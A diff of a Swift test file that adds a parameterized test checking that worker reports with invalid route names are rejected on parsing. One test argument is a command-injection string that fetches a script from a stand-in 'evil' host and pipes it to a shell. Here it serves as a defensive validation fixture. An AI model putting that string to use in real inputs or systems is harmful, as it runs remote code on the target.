@@ -139,6 +139,17 @@ struct WorkerReportTests {
     }
 
     @Test(
+        "A report to operators is ignored if a route has a name that no configuration allows",
+        arguments: ["", "shop; curl evil|sh #", "Shop", "shop.return", "shöp", String(repeating: "r", count: 41)])
+    func impossibleRoute(_ name: String) {
+        var report = WorkerReport(instance: "w", program: "1", startedAt: 5, sentAt: 6)
+        report.routes = [WorkerReport.Route(name: String(repeating: "r-9", count: 13), state: "ready")]
+        #expect(WorkerReport(parsing: report.json) == report)
+        report.routes.append(WorkerReport.Route(name: name, state: "ready"))
+        #expect(WorkerReport(parsing: report.json) == nil)
+    }
+
+    @Test(
         "A report to operators with impossible numbers is ignored",
         arguments: [
             { $0.accepted = -1 }, { $0.inFlight = .max }, { $0.moreRoutes = .min }, { $0.sentAt = .max },
